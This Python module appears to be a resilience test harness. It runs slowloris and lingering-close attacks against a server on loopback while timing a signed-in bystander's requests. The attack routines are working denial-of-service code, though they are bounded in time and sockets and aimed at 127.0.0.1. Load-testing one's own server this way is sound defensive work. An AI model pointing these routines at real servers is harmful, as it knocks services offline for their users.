"""Slow-client attacks on a running server, with a bystander whose latency is measured.

- slowloris: `connections` sockets each sending a request head one header line a second,
  never finishing it (a closed one is opened again);
- lingering close: `connections` unauthenticated `Connection: close` requests whose sockets
  are left open without reading the answer, each slot opening a new one every few seconds.

Meanwhile the bystander, a signed-in user, sends `GET /api/v1/usage` on a new connection four
times a second; its latencies (a request with no answer in `BYSTANDER_TIMEOUT` counts as that
long) are what the fault table reports. Loopback only, bounded in time and connections.
"""

from __future__ import annotations

import asyncio
import time
from dataclasses import dataclass, field

BYSTANDER_TIMEOUT = 10.0
BYSTANDER_EVERY = 0.25
MAX_OPENED_PER_SLOT = 200  # a bound on the sockets one attacker slot opens in a run


@dataclass
class Bystander:
    latencies: list[float] = field(default_factory=list)
    failures: int = 0
    statuses: dict[int, int] = field(default_factory=dict)

    @property
    def worst(self) -> float:
        return max(self.latencies, default=0.0)

    @property
    def median(self) -> float:
        ordered = sorted(self.latencies)
        return ordered[len(ordered) // 2] if ordered else 0.0


async def _request(port: int, raw: bytes, timeout: float) -> int:
    """Send `raw` on a new connection; the answer's status (0: none in time)."""
    reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), timeout)
    try:
        writer.write(raw)
        line = await asyncio.wait_for(reader.readline(), timeout)
        await asyncio.wait_for(reader.read(), timeout)  # Connection: close, read to the end
        return int(line.split()[1]) if line.startswith(b"HTTP/") else 0
    finally:
        writer.close()


async def bystander(port: int, token: str, until: float, seen: Bystander) -> None:
    raw = (
        "GET /api/v1/usage HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        f"Authorization: Bearer {token}\r\nConnection: close\r\n\r\n"
    ).encode()
    while time.monotonic() < until:
        began = time.monotonic()
        try:
            status = await _request(port, raw, BYSTANDER_TIMEOUT)
        except (OSError, TimeoutError, IndexError, ValueError):
            status = 0
        elapsed = time.monotonic() - began
        seen.latencies.append(min(elapsed, BYSTANDER_TIMEOUT))
        seen.statuses[status] = seen.statuses.get(status, 0) + 1
        if status != 200:
            seen.failures += 1
        await asyncio.sleep(max(0.0, BYSTANDER_EVERY - elapsed))


async def _slowloris_slot(port: int, until: float) -> None:
    for _ in range(MAX_OPENED_PER_SLOT):
        if time.monotonic() >= until:
            return
        try:
            _reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.5)
            continue
        try:
            writer.write(b"POST /api/v1/auth/token HTTP/1.1\r\nHost: 127.0.0.1\r\n")
            number = 0
            while time.monotonic() < until:
                await asyncio.sleep(1.0)
                number += 1
                writer.write(f"X-Slow-{number}: a\r\n".encode())
                await writer.drain()
        except OSError:
            continue  # the server closed it: open another
        finally:
            writer.close()


async def _lingering_slot(port: int, until: float, hold: float) -> None:
    raw = b"GET /api/v1/usage HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
    for _ in range(MAX_OPENED_PER_SLOT):
        if time.monotonic() >= until:
            return
        try:
            _reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.5)
            continue
        try:
            writer.write(raw)
            await asyncio.sleep(min(hold, max(0.0, until - time.monotonic())))
        finally:
            writer.close()  # only after `hold`: the answer is never read


async def _attack(kind: str, port: int, token: str, connections: int, seconds: float):
    seen = Bystander()
    begin = time.monotonic()
    until = begin + seconds
    if kind == "slowloris":
        slots = [_slowloris_slot(port, until) for _ in range(connections)]
    else:
        slots = [_lingering_slot(port, until, hold=3.0) for _ in range(connections)]
    attackers = [asyncio.ensure_future(slot) for slot in slots]
    await asyncio.sleep(1.0)  # the attack is in place before the bystander comes
    await bystander(port, token, until, seen)
    await asyncio.wait(attackers, timeout=BYSTANDER_TIMEOUT)
    for task in attackers:
        task.cancel()
    return seen


def attack(kind: str, *, port: int, token: str, connections: int, seconds: float) -> Bystander:
    """Run one attack (`slowloris` or `lingering`) for `seconds`; the bystander's figures."""
    return asyncio.run(_attack(kind, port, token, connections, seconds))
